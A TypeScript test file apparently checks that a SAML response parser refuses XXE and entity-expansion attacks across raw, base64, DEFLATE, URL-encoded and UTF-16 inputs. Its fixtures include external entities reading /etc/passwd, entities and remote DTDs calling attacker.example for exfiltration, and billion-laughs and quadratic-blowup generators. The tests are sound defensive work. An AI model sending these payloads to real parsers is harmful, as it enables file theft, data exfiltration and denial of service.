/**
 * CWE-611: Improper Restriction of XML External Entity Reference (XXE), and
 * CWE-776: Improper Restriction of Recursive Entity References in DTDs ("billion laughs").
 *
 * parseXml refuses any DOCTYPE before the text reaches the XML parser (SAML core §1.3 and
 * bindings §3.5 forbid one), so no entity is ever declared, fetched or expanded. These cases send
 * every entity trick through the whole pipeline — raw XML, HTTP-POST base64, HTTP-Redirect
 * DEFLATE, URL-encoded, UTF-16 — and require the refusal to be named as an XXE/entity attack shape
 * in the diagnosis, in bounded time and memory, with nothing of the entity's target in the output.
 */
import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildSalesforceResponse, sharedTestIdp } from '../../testing/saml-builder.ts';
import { parseXml } from '../xml/parse-xml.ts';
import { runRegressionCase, type RegressionOutcome } from '../../testing/run-regression-case.ts';

const NOW = '2026-03-02T10:00:03.000Z';
/** Wall-time and heap guards per case: orders of magnitude above normal, far below an expansion. */
const CASE_BUDGET_MS = 5_000;
const HEAP_BUDGET_BYTES = 64 * 1024 * 1024;

const RESPONSE_OPEN = '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r1" Version="2.0">';
const RESPONSE_CLOSE = '</samlp:Response>';

function withDoctype(doctype: string, body = '<saml:Issuer>&xxe;</saml:Issuer>'): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${RESPONSE_OPEN}${body}${RESPONSE_CLOSE}`;
}

const EXTERNAL_FILE = withDoctype('<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>');
const EXTERNAL_URL = withDoctype('<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "http://attacker.example/steal?d=1">]>');
const PUBLIC_ID = withDoctype('<!DOCTYPE samlp:Response [<!ENTITY xxe PUBLIC "-//A//B" "http://attacker.example/x">]>');
const PARAMETER_ENTITY = withDoctype(
  '<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; %payload;]>',
  '<saml:Issuer>&exfil;</saml:Issuer>',
);
const EXTERNAL_DTD = withDoctype('<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/saml.dtd">', '<saml:Issuer>x</saml:Issuer>');

function billionLaughs(levels: number): string {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level < levels; level++) entities.push(`<!ENTITY lol${String(level)} "${`&lol${String(level - 1)};`.repeat(10)}">`);
  return withDoctype(`<!DOCTYPE samlp:Response [${entities.join('')}]>`, `<saml:Issuer>&lol${String(levels - 1)};</saml:Issuer>`);
}

/** Quadratic blow-up: one large entity referenced many times (no nesting, so depth limits do not help). */
function quadraticBlowup(): string {
  return withDoctype(`<!DOCTYPE samlp:Response [<!ENTITY a "${'A'.repeat(50_000)}">]>`, `<saml:Issuer>${'&a;'.repeat(50_000)}</saml:Issuer>`);
}

const post = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');
const redirect = (xml: string): string => deflateRawSync(Buffer.from(xml, 'utf8')).toString('base64');
const utf16 = (xml: string): string =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le')]).toString('base64');

type Outcome = RegressionOutcome & { readonly heapGrowth: number };

async function run(value: string): Promise<Outcome> {
  const heapBefore = process.memoryUsage().heapUsed;
  const outcome = await runRegressionCase(value, { now: NOW });
  return { ...outcome, heapGrowth: process.memoryUsage().heapUsed - heapBefore };
}

/** The refusal is named as an entity attack, early, cheaply, and leaks nothing of the target. */
function expectEntityAttackNamed(outcome: Outcome, code: 'xml-entity-declaration' | 'xml-doctype', input: string): void {
  expect(outcome.analysis.problems.map((p) => p.code)).toContain(code);
  expect(outcome.analysis.message).toBeUndefined();
  expect(outcome.diagnosis.primary.id).toBe('saml-undecodable');
  expect(outcome.diagnosis.primary.title).toMatch(/XXE/);
  expect(outcome.diagnosis.primary.evidence.map((e) => e.observed ?? '').join(' ')).toContain(code);
  expect(outcome.diagnosis.findings.map((f) => f.id)).not.toContain('sso-healthy');
  expect(outcome.ms).toBeLessThan(CASE_BUDGET_MS);
  expect(outcome.heapGrowth).toBeLessThan(HEAP_BUDGET_BYTES);
  const serialised = JSON.stringify(outcome.diagnosis);
  expect(serialised).not.toContain('root:x:0:0');
  expect(serialised).not.toMatch(/(lol){20}/);
  // The diagnosis keeps the received XML for the report; nothing beyond it was ever expanded.
  expect(serialised.length).toBeLessThan(2 * input.length + 64 * 1024);
}

function bestOf(times: number, work: () => void): number {
  let best = Number.POSITIVE_INFINITY;
  for (let i = 0; i < times; i++) {
    const started = performance.now();
    work();
    best = Math.min(best, performance.now() - started);
  }
  return best;
}

describe('XML external entities and entity expansion (CWE-611, CWE-776)', () => {
  const cases: readonly (readonly [string, string, 'xml-entity-declaration' | 'xml-doctype'])[] = [
    ['an external entity reading a local file (SYSTEM "file:///etc/passwd")', EXTERNAL_FILE, 'xml-entity-declaration'],
    ['an external entity calling out to a URL (server-side request forgery)', EXTERNAL_URL, 'xml-entity-declaration'],
    ['an external entity with a PUBLIC identifier', PUBLIC_ID, 'xml-entity-declaration'],
    ['a parameter entity pulling a remote DTD (out-of-band exfiltration)', PARAMETER_ENTITY, 'xml-entity-declaration'],
    ['a DOCTYPE with only an external DTD subset', EXTERNAL_DTD, 'xml-doctype'],
    ['a billion-laughs bomb (10 levels of 10× nested entities)', billionLaughs(10), 'xml-entity-declaration'],
    ['a quadratic blow-up (one 50 kB entity referenced 50,000 times)', quadraticBlowup(), 'xml-entity-declaration'],
  ];

  for (const [attack, xml, code] of cases) {
    it(`refuses ${attack} as raw XML and names it an XXE shape`, async () => {
      expectEntityAttackNamed(await run(xml), code, xml);
    });
    it(`refuses ${attack} inside HTTP-POST base64`, async () => {
      expectEntityAttackNamed(await run(post(xml)), code, xml);
    });
    it(`refuses ${attack} inside HTTP-Redirect DEFLATE + base64`, async () => {
      const outcome = await run(redirect(xml));
      expect(outcome.analysis.problems.map((p) => p.code)).toContain('deflated');
      expectEntityAttackNamed(outcome, code, xml);
    });
  }

  it('refuses the DOCTYPE when the base64 is also URL-encoded (as in a HAR form body)', async () => {
    expectEntityAttackNamed(await run(encodeURIComponent(post(EXTERNAL_FILE))), 'xml-entity-declaration', EXTERNAL_FILE);
  });

  it('refuses the DOCTYPE when the document is UTF-16 with a byte-order mark', async () => {
    const outcome = await run(utf16(EXTERNAL_FILE));
    expect(outcome.analysis.problems.map((p) => p.code)).toContain('encoding-utf16');
    expectEntityAttackNamed(outcome, 'xml-entity-declaration', EXTERNAL_FILE);
  });

  it('refuses a DOCTYPE hidden after a comment and a processing instruction', async () => {
    const xml = `<!-- harmless --><?pi data?>\n<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${RESPONSE_OPEN}<saml:Issuer>&xxe;</saml:Issuer>${RESPONSE_CLOSE}`;
    expectEntityAttackNamed(await run(post(xml)), 'xml-entity-declaration', xml);
  });

  it('refuses a DOCTYPE injected into a really signed Salesforce response', async () => {
    const signed = buildSalesforceResponse(await sharedTestIdp());
    const xml = `<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${signed}`.replace('>https://acme.my.salesforce.com<', '>&xxe;<');
    expectEntityAttackNamed(await run(post(xml)), 'xml-entity-declaration', xml);
  });

  it('reports an entity reference with no declaration as malformed XML naming the entity, never resolving it', async () => {
    const outcome = await run(post(`${RESPONSE_OPEN}<saml:Issuer>&xxe;</saml:Issuer>${RESPONSE_CLOSE}`));
    const malformed = outcome.analysis.problems.find((p) => p.code === 'xml-malformed');
    expect(malformed?.message).toMatch(/entit|xxe/i);
    expect(outcome.diagnosis.primary.id).toBe('saml-undecodable');
    expect(outcome.ms).toBeLessThan(CASE_BUDGET_MS);
  });

  it('leaves an XInclude element inert: nothing is fetched and nothing appears in the model', async () => {
    const xml = `${RESPONSE_OPEN.replace('>', ' xmlns:xi="http://www.w3.org/2001/XInclude">')}<saml:Issuer><xi:include href="file:///etc/passwd" parse="text"/></saml:Issuer>${RESPONSE_CLOSE}`;
    const outcome = await run(post(xml));
    expect(outcome.analysis.message?.kind).toBe('Response');
    expect(outcome.analysis.message?.kind === 'Response' ? outcome.analysis.message.issuer : 'not a response').toBe('');
    expect(outcome.diagnosis.primary.id).not.toBe('sso-healthy');
  });

  it('refuses the XXE fixture of the shared corpus (ruby-saml attackxee.xml)', async () => {
    const repoRoot = fileURLToPath(new URL('../../../', import.meta.url));
    const dir = [process.env['SSO_DOCTOR_CORPUS'], `${repoRoot}corpus`, `${repoRoot}../shared/corpus`].find((d): d is string => d !== undefined && existsSync(`${d}/catalog.json`));
    if (dir === undefined) return;
    const xml = readFileSync(`${dir}/ruby-saml/responses/attackxee.xml`, 'utf8');
    expectEntityAttackNamed(await run(xml), 'xml-entity-declaration', xml);
  });

  it('spends time linear in the input refusing a DOCTYPE: 10× more entity declarations costs at most 30× the time', () => {
    const declarations = (count: number): string =>
      withDoctype(`<!DOCTYPE samlp:Response [${Array.from({ length: count }, (_, i) => `<!ENTITY e${String(i)} "${'&e0;'.repeat(10)}">`).join('')}]>`);
    const small = declarations(2_000);
    const large = declarations(20_000);
    expect(parseXml(large).ok).toBe(false);
    const smallMs = bestOf(3, () => parseXml(small));
    const largeMs = bestOf(3, () => parseXml(large));
    expect(largeMs).toBeLessThanOrEqual(Math.max(smallMs, 1) * 30);
  });
});
